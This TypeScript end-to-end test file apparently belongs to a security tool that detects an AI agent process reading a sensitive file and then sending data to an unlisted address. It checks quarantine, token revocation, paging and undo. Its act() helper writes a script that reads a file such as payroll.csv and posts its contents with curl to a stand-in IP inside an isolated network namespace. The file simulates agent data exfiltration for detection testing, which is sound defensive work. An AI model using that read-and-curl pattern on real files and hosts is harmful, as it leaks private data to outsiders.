import { execFileSync, spawn } from 'node:child_process'
import { appendFileSync, chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join, resolve } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Site, type SiteDevice, until } from '../kits/site.ts'
import { startAlertmanager } from '../real/servers/alertmanager.ts'
import { type KernelAudit, kernelAuditMissing, startKernelAudit } from '../real/servers/kernel-audit.ts'
import { type EnrolledDevice, enrolDevice } from '../real/servers/mdm-device.ts'
import { type RealMdm, startNanomdm } from '../real/servers/nanomdm.ts'
import { type RealTokens, startOpenbao } from '../real/servers/openbao.ts'
import type { RealServer } from '../real/servers/server.ts'
import { recordedAudit } from './recorded-audit.ts'

interface Case {
  readonly device: SiteDevice
  /** The agent's name, and how its process is started. */
  readonly agent: string
  readonly script: string
  readonly uid: number
  readonly path: string
  readonly destination: string
  readonly labels: readonly { readonly path: string; readonly classification: string }[]
}

const scratch = mkdtempSync(join(tmpdir(), 'cordon-e2e-'))
const CASES: readonly Case[] = [
  {
    device: { id: 'laptop-7', mdm: '5F2B7E61-0000-4000-8000-000000000007', user: 'ana' },
    agent: 'claude',
    script: 'claude.js',
    uid: 0,
    path: '/sensitive/payroll.csv',
    destination: '203.0.113.66',
    labels: [],
  },
  {
    device: { id: 'ws-31', mdm: '8A11C0DE-0000-4000-8000-000000000031', user: 'bo' },
    agent: 'gemini',
    script: 'gemini-cli.mjs',
    uid: 65_534,
    path: join(scratch, 'board', 'merger plan.docx'),
    destination: '198.51.100.9',
    labels: [{ path: join(scratch, 'board', '**'), classification: 'restricted' }],
  },
]

const missing = kernelAuditMissing()
if (missing !== undefined) console.warn(`No kernel audit here (${missing}): recorded audit records are fed instead.`)

describe.each(CASES)('$agent on $device.id reads $path, and a child of it connects to $destination', (given) => {
  const closing: (() => Promise<unknown> | unknown)[] = []
  let mdm: RealMdm
  let bao: RealTokens
  let paging: RealServer
  let device: EnrolledDevice
  let site: Site
  let audit: KernelAudit | undefined
  const auditLog = join(scratch, given.device.id, 'audit.log')

  beforeAll(async () => {
    mkdirSync(join(scratch, given.device.id), { recursive: true, mode: 0o755 })
    chmodSync(scratch, 0o755)
    const watched = join(given.path, '..')
    if (missing === undefined) {
      const made = !existsSync(watched)
      mkdirSync(watched, { recursive: true })
      writeFileSync(given.path, 'name,salary\n')
      closing.push(() => (made ? rmSync(watched, { recursive: true }) : rmSync(given.path)))
      audit = await startKernelAudit(join(scratch, given.device.id), watched)
      closing.push(() => audit!.stop())
    } else writeFileSync(auditLog, '')

    bao = await startOpenbao()
    closing.push(() => bao.stop())
    paging = await startAlertmanager()
    closing.push(() => paging.stop())
    site = await Site.create({
      devices: [given.device, { id: 'bystander', mdm: 'other', user: 'carol' }],
      vendors: async ({ url }) => {
        mdm = await startNanomdm({ webhook: `${url}/hooks/nanomdm-quarantine` })
        return {
          mdm: { url: mdm.url, apiKey: mdm.apiKey, webhookKey: mdm.webhookKey },
          tokens: { url: bao.url, rootToken: bao.rootToken },
          paging: { url: paging.url },
        }
      },
      labels: given.labels,
      config: { sources: [{ type: 'file', path: auditLog, source: 'linux.auditd', device: given.device.id, from: 'start' }] },
    })
    closing.push(
      () => mdm.stop(),
      () => site.remove(),
    )
    device = await enrolDevice(mdm, given.device.mdm)
    device.start(200)
    closing.push(() => device.stop())
    await site.start()
  })
  afterAll(async () => {
    for (const close of closing.reverse()) await close()
    rmSync(join(scratch, given.device.id), { recursive: true, force: true })
  })

  it('is found once, quarantined, its tokens are dead, on-call has the incident, and it can be undone', async () => {
    const tokens = [await mint(bao, given), await mint(bao, given)]
    const bystander = await mint(bao, { ...given, device: { ...given.device, id: 'bystander' } })
    for (const token of [...tokens, bystander]) expect(await lookup(bao, token)).toBe(200)

    const happened = Date.now()
    if (missing === undefined) act(given)
    else appendFileSync(auditLog, recordedAudit({ ...given, script: `/opt/agents/${given.script}`, now: happened }))

    const actions = await until('three confirmed actions', 60, async () => {
      const { items } = await site.get('/v1/actions')
      return items?.length === 3 && items.every(({ state }) => state === 'CONFIRMED') && (items as unknown as Action[])
    })

    const { items: alerts } = (await site.get('/v1/alerts')) as unknown as { items: Alert[] }
    expect(alerts.map(({ rule, group }) => [rule.name, group])).toEqual([
      ['agent_sensitive_then_unlisted_egress', { 'device.id': given.device.id, 'gen_ai.agent.name': given.agent }],
    ])
    const facts = alerts[0]!.evidence.flatMap((item) => item.facts.flatMap((part) => part.facts.map(({ value }) => value)))
    expect(facts).toContain(given.labels[0]?.classification ?? given.path)

    const quarantine = actions.find(({ verb }) => verb === 'quarantine_device')!
    expect([...device.device.profiles.keys()]).toHaveLength(1)
    expect(device.device.history).toHaveLength(1)
    for (const token of tokens) expect(await lookup(bao, token)).toBe(403)
    expect(await lookup(bao, bystander)).toBe(200)
    const incident = await incidentAt(paging)
    expect(incident).toMatchObject({ status: { state: 'active' } })
    expect(JSON.stringify(incident)).toContain(given.device.id)
    console.info(
      `${given.device.id}: event → accepted by the MDM ${quarantine.secondsToAccepted} s, confirmed by its profile list ${quarantine.secondsToConfirmed} s${missing === undefined ? ', kernel audit' : ', recorded audit'}`,
    )

    // The same detection again is no second incident and no second command.
    await sleep(1_500)
    expect(device.device.history).toHaveLength(1)
    expect(((await site.get('/v1/incidents')) as unknown as { items: unknown[] }).items).toHaveLength(1)

    execFileSync(process.execPath, [
      resolve('bin/cordon.mjs'),
      'actions',
      'undo',
      quarantine.id,
      '--reason',
      'false alarm',
      '--config',
      site.configPath,
    ])
    await until('the profile is gone and the undo confirmed', 60, async () => {
      const { state } = (await site.get(`/v1/actions/${quarantine.id}`)) as unknown as Action
      return state === 'REVERTED' && device.device.profiles.size === 0
    })
  })
})

interface Alert {
  readonly rule: { readonly name: string }
  readonly group: Record<string, string>
  readonly evidence: { readonly facts: { readonly facts: { readonly value: string }[] }[] }[]
}
interface Action {
  readonly id: string
  readonly verb: string
  readonly state: string
  readonly secondsToAccepted: number
  readonly secondsToConfirmed: number
}

/** A real agent-like process in a network namespace of its own, where the destination is a real listener; its child is curl. */
function act({ script, path, destination, uid }: Case): void {
  const namespace = `cordon-e2e-${process.pid}`
  const ip = (...args: string[]) => execFileSync('ip', args)
  const program = join(scratch, script)
  writeFileSync(
    program,
    `const { readFileSync } = await import('node:fs'); const { spawnSync } = await import('node:child_process')
     const text = readFileSync(process.argv[2], 'utf8')
     spawnSync('curl', ['-s', '-m', '3', '--data', text, 'http://' + process.argv[3] + ':8080/'])`,
  )
  // An ES module whatever its ending: the name is what tells an agent, as with the real ones.
  writeFileSync(join(scratch, 'package.json'), '{"type":"module"}')
  for (const file of [program, join(scratch, 'package.json')]) chmodSync(file, 0o644)
  ip('netns', 'add', namespace)
  try {
    ip('-n', namespace, 'link', 'set', 'lo', 'up')
    ip('-n', namespace, 'addr', 'add', `${destination}/32`, 'dev', 'lo')
    const inside = (program_: string, ...args: string[]) => ['netns', 'exec', namespace, program_, ...args]
    const listener = spawn('ip', inside(process.execPath, '-e', "require('node:http').createServer((q, s) => s.end('ok')).listen(8080)"), {
      stdio: 'ignore',
    })
    execFileSync('ip', inside('setpriv', `--reuid=${uid}`, '--clear-groups', process.execPath, program, path, destination), {
      timeout: 10_000,
    })
    listener.kill('SIGKILL')
  } finally {
    ip('netns', 'del', namespace)
  }
}

/** On a connection of its own: one that was kept may be closed by the server just as it is used again. */
async function call({ url, rootToken }: RealTokens, method: string, path: string, token = rootToken, body?: object) {
  return fetch(`${url}/v1/${path}`, {
    method,
    headers: { 'x-vault-token': token, connection: 'close' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  })
}

async function mint(bao: RealTokens, { device, agent }: Case): Promise<string> {
  const answer = await call(bao, 'POST', 'auth/token/create', bao.rootToken, {
    meta: { device: device.id, agent },
    policies: ['default'],
    ttl: '15m',
  })
  return ((await answer.json()) as { auth: { client_token: string } }).auth.client_token
}

const lookup = async (bao: RealTokens, token: string) => (await call(bao, 'GET', 'auth/token/lookup-self', token)).status

async function incidentAt({ url }: RealServer): Promise<unknown> {
  return until(
    'the incident at Alertmanager',
    10,
    async () => ((await (await fetch(`${url}/api/v2/alerts`, { headers: { connection: 'close' } })).json()) as unknown[])[0],
  )
}
